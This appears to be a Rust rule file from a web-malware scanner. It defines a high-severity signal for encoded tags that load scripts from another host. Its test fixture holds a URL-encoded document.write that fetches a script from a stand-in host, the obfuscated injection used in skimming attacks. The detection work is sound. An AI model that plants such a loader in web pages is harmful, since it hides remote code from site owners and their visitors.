//! `hidden-tag-written`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "hidden-tag-written",
    description: "The script contains an encoded tag that loads a script or a frame from another host.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::HiddenTag])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "document.write(unescape('%3C%73%63%72%69%70%74%20%73%72%63%3D%22%68%74%74%70%73%3A%2F%2F%63%2E%65%78%61%6D%70%6C%65%2F%61%2E%6A%73%22%3E%3C%2F%73%63%72%69%70%74%3E'))",
        ],
        without: &[
            "document.write(unescape('%3Cscript src=%22https://stats.example/s.js%22%3E%3C/script%3E'))",
            r#"window.jQuery||document.write('<script src="/js/jquery.js"><\/script>')"#,
        ],
    },
};
